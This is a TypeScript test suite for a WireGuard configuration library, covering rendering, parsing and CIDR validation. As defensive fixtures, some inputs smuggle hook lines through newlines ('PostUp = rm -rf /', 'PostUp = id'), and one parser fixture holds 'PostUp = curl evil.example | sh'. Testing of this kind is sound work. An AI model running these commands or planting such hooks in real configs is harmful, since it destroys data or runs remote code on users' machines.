import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  clientConfig,
  isCidr,
  parseWgQuickConfig,
  renderClientConfig,
  renderWgConfig,
  renderWgQuickConfig,
  toWgConfig,
  WireGuardConfigError,
  type ClientConfigInput,
  type WgConfig,
} from './config.js';
import { findExecutable } from './commands.js';
import { generateKeyPair, generatePresharedKey } from './keys.js';

// Fixed keys so the expected text can be written out (these are test values, not anyone's secrets).
const K1 = Buffer.alloc(32, 1).toString('base64'); // AQEB…AQE=
const K2 = Buffer.alloc(32, 2).toString('base64');
const K3 = Buffer.alloc(32, 3).toString('base64');
const K4 = Buffer.alloc(32, 4).toString('base64');

const client: ClientConfigInput = {
  privateKey: K1,
  address: '10.8.0.2',
  dns: ['10.8.0.1', 'cell.home'],
  cellPublicKey: K2,
  presharedKey: K3,
  endpoint: 'vpn.example.org:51820',
  allowedIps: ['10.8.0.0/24', 'fd00::/64'],
};

describe('renderWgConfig (wg setconf / syncconf format)', () => {
  it('writes [Interface] PrivateKey + ListenPort and one [Peer] block per peer, no wg-quick keys', () => {
    const text = renderWgConfig({
      privateKey: K1,
      listenPort: 51820,
      peers: [
        { publicKey: K2, presharedKey: K3, allowedIps: ['10.8.0.2/32'] },
        {
          publicKey: K4,
          allowedIps: ['10.8.0.3/32', '192.168.50.0/24'],
          endpoint: '192.0.2.7:4500',
          persistentKeepalive: 25,
        },
      ],
    });
    assert.equal(
      text,
      [
        '[Interface]',
        `PrivateKey = ${K1}`,
        'ListenPort = 51820',
        '',
        '[Peer]',
        `PublicKey = ${K2}`,
        `PresharedKey = ${K3}`,
        'AllowedIPs = 10.8.0.2/32',
        '',
        '[Peer]',
        `PublicKey = ${K4}`,
        'Endpoint = 192.0.2.7:4500',
        'AllowedIPs = 10.8.0.3/32, 192.168.50.0/24',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
    assert.doesNotMatch(text, /Address|DNS|MTU/);
  });

  it('rejects every value that could break out of its line, naming the field and never the key', () => {
    const secret = generateKeyPair().privateKey;
    const base: WgConfig = {
      privateKey: secret,
      listenPort: 51820,
      peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32'] }],
    };
    const cases: Array<[string, WgConfig]> = [
      ['privateKey', { ...base, privateKey: `${secret}\nListenPort = 1` }],
      ['privateKey', { ...base, privateKey: secret.slice(0, 43) }],
      ['listenPort', { ...base, listenPort: 0 }],
      ['listenPort', { ...base, listenPort: 70000 }],
      ['listenPort', { ...base, listenPort: 1.5 }],
      ['peers[0].publicKey', { ...base, peers: [{ publicKey: `${K2}\n[Peer]`, allowedIps: [] }] }],
      ['peers[0].presharedKey', { ...base, peers: [{ publicKey: K2, presharedKey: 'short', allowedIps: [] }] }],
      [
        'peers[0].allowedIps[1]',
        { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/32', '10.8.0.3/32\nEndpoint = x:1'] }] },
      ],
      ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.300/32'] }] }],
      ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2/33'] }] }],
      ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['10.8.0.2'] }] }],
      ['peers[0].allowedIps[0]', { ...base, peers: [{ publicKey: K2, allowedIps: ['fd00::/129'] }] }],
      [
        'peers[0].endpoint',
        { ...base, peers: [{ publicKey: K2, allowedIps: [], endpoint: 'host:1\nPostUp = rm -rf /' }] },
      ],
      ['peers[0].endpoint', { ...base, peers: [{ publicKey: K2, allowedIps: [], endpoint: 'host' }] }],
      [
        'peers[0].persistentKeepalive',
        { ...base, peers: [{ publicKey: K2, allowedIps: [], persistentKeepalive: -1 }] },
      ],
    ];
    for (const [field, config] of cases) {
      assert.throws(
        () => renderWgConfig(config),
        (err: unknown) => {
          assert.ok(err instanceof WireGuardConfigError, String(err));
          assert.equal(err.field, field, err.message);
          assert.ok(!err.message.includes(secret.slice(0, 16)), 'the private key is not in the message');
          return true;
        },
        field,
      );
    }
  });

  it('renders 10,000 peers into 10,001 sections', () => {
    const peers = Array.from({ length: 10_000 }, (_, i) => ({
      publicKey: generateKeyPair().publicKey,
      allowedIps: [`10.8.${i >> 8}.${i & 255}/32`],
    }));
    const text = renderWgConfig({ privateKey: K1, listenPort: 51820, peers });
    assert.equal(text.match(/^\[Peer\]$/gm)?.length, 10_000);
    assert.ok(text.includes('AllowedIPs = 10.8.39.15/32')); // the last: 9999 = 39 * 256 + 15
  });
});

describe('client config (wg-quick)', () => {
  it('renders the peer side: its key, address and DNS, the cell as [Peer] with keepalive 25', () => {
    assert.equal(
      renderClientConfig(client),
      [
        '[Interface]',
        `PrivateKey = ${K1}`,
        'Address = 10.8.0.2/32',
        'DNS = 10.8.0.1, cell.home',
        '',
        '[Peer]',
        `PublicKey = ${K2}`,
        `PresharedKey = ${K3}`,
        'Endpoint = vpn.example.org:51820',
        'AllowedIPs = 10.8.0.0/24, fd00::/64',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
  });

  it('parses back to the same structure it was rendered from', () => {
    const parsed = parseWgQuickConfig(renderClientConfig(client));
    assert.deepEqual(parsed, { ...clientConfig(client), ignoredKeys: [] });
    const random = {
      ...client,
      privateKey: generateKeyPair().privateKey,
      presharedKey: generatePresharedKey(),
      mtu: 1380,
      persistentKeepalive: 0,
    };
    const again = parseWgQuickConfig(renderClientConfig(random));
    assert.equal(again.interface.privateKey, random.privateKey);
    assert.equal(again.interface.mtu, 1380);
    assert.equal(again.peers[0]!.presharedKey, random.presharedKey);
    assert.equal(again.peers[0]!.persistentKeepalive, undefined, 'keepalive 0 is not written');
  });

  it('rejects bad client values (newline in DNS, bad address)', () => {
    assert.throws(
      () => renderClientConfig({ ...client, dns: ['10.8.0.1\nPostUp = id'] }),
      (e: WireGuardConfigError) => e.field === 'interface.dns[0]',
    );
    assert.throws(
      () => renderClientConfig({ ...client, address: '10.8.0.2/40' }),
      (e: WireGuardConfigError) => e.field === 'interface.addresses[0]',
    );
    assert.throws(
      () => renderClientConfig({ ...client, cellPublicKey: 'x' }),
      (e: WireGuardConfigError) => e.field === 'peers[0].publicKey',
    );
  });

  it('toWgConfig drops Address/DNS/MTU and matches what `wg-quick strip` makes of the same file', (t) => {
    const config = clientConfig({ ...client, mtu: 1400 });
    const stripped = renderWgConfig(toWgConfig(config));
    assert.doesNotMatch(stripped, /Address|DNS|MTU/);
    const wgQuick = findExecutable('wg-quick');
    if (!wgQuick) return t.skip("SKIPPED interop half: 'wg-quick' (wireguard-tools) is not installed here");
    const dir = mkdtempSync(join(tmpdir(), 'pic-wgquick-'));
    try {
      const file = join(dir, 'picstrip0.conf');
      writeFileSync(file, renderWgQuickConfig(config), { mode: 0o600 });
      const theirs = execFileSync(wgQuick, ['strip', file], { encoding: 'utf8' });
      const norm = (s: string) =>
        s
          .split('\n')
          .map((l) => l.trim())
          .filter(Boolean)
          .join('\n');
      assert.equal(norm(theirs), norm(stripped));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('parseWgQuickConfig', () => {
  it('reads what people write: comments, any case, repeated and comma lists, hooks noted but not applied', () => {
    const parsed = parseWgQuickConfig(
      [
        '# my phone',
        '[interface]',
        `privatekey=${K1}   # secret`,
        'Address = 10.8.0.5/32',
        'Address = fd00::5/128',
        'DNS = 10.8.0.1,1.1.1.1',
        'PostUp = curl evil.example | sh',
        'Table = off',
        '',
        '[PEER]',
        `PublicKey = ${K2}`,
        'AllowedIPs = 0.0.0.0/0',
        'allowedips = ::/0',
        'Endpoint = [2001:db8::1]:51820',
        'PersistentKeepalive = off',
        '[Peer]',
        `PublicKey = ${K4}`,
        'AllowedIPs = 10.9.0.0/16',
      ].join('\r\n'),
    );
    assert.deepEqual(parsed.interface, {
      privateKey: K1,
      addresses: ['10.8.0.5/32', 'fd00::5/128'],
      dns: ['10.8.0.1', '1.1.1.1'],
    });
    assert.deepEqual(parsed.peers, [
      { publicKey: K2, allowedIps: ['0.0.0.0/0', '::/0'], endpoint: '[2001:db8::1]:51820', persistentKeepalive: 0 },
      { publicKey: K4, allowedIps: ['10.9.0.0/16'] },
    ]);
    assert.deepEqual(parsed.ignoredKeys, ['PostUp', 'Table']);
  });

  it('refuses what it does not understand, with the line number', () => {
    const cases: Array<[string, RegExp]> = [
      [`[Peer]\nPublicKey = ${K2}`, /interface: the \[Interface\] section is missing/],
      [`PrivateKey = ${K1}`, /line 1 \(PrivateKey\): a key outside any section/],
      [`[Interface]\nPrivateKey = ${K1}\n[Wat]`, /line 3: unknown section/],
      [`[Interface]\nPrivateKey = ${K1}\nColour = blue`, /line 3 \(Colour\): unknown \[Interface\] key/],
      [`[Interface]\nPrivateKey = ${K1}\nPrivateKey = ${K4}`, /line 3 \(PrivateKey\): given twice/],
      [`[Interface]\nPrivateKey = ${K1}\n[Interface]`, /line 3: a second \[Interface\]/],
      [`[Interface]\nPrivateKey = ${K1}\njust words`, /line 3: expected "Key = Value"/],
      ['[Interface]\nAddress = 10.8.0.2/32', /interface.privateKey: is missing/],
      [`[Interface]\nPrivateKey = ${K1}\n[Peer]\nAllowedIPs = 10.8.0.0/24`, /peers\[0\].publicKey: is missing/],
      [`[Interface]\nPrivateKey = ${K1}\nListenPort = 5x`, /line 3 \(ListenPort\): must be a whole number/],
      [`[Interface]\nPrivateKey = ${K1}\nListenPort = 99999`, /interface.listenPort: must be 1-65535/],
      [
        `[Interface]\nPrivateKey = ${K1}\n[Peer]\nPublicKey = ${K2}\nAllowedIPs = 10.8.0.0/99`,
        /peers\[0\].allowedIps\[0\]/,
      ],
      [`[Interface]\nPrivateKey = nope`, /interface.privateKey: must be a WireGuard key/],
    ];
    for (const [text, expected] of cases) assert.throws(() => parseWgQuickConfig(text), expected, text);
  });
});

describe('isCidr', () => {
  it('accepts IPv4 and IPv6 CIDRs only', () => {
    for (const ok of ['10.8.0.0/24', '0.0.0.0/0', '10.8.0.2/32', '::/0', 'fd00::1/128', '2001:db8::/32'])
      assert.ok(isCidr(ok), ok);
    for (const bad of [
      '10.8.0.0',
      '10.8.0.0/33',
      '::/129',
      'fd00::/01',
      'x/24',
      '10.8.0.0/24\n',
      '10.8.0.0/24/1',
      '',
    ]) {
      assert.equal(isCidr(bad), false, JSON.stringify(bad));
    }
  });
});
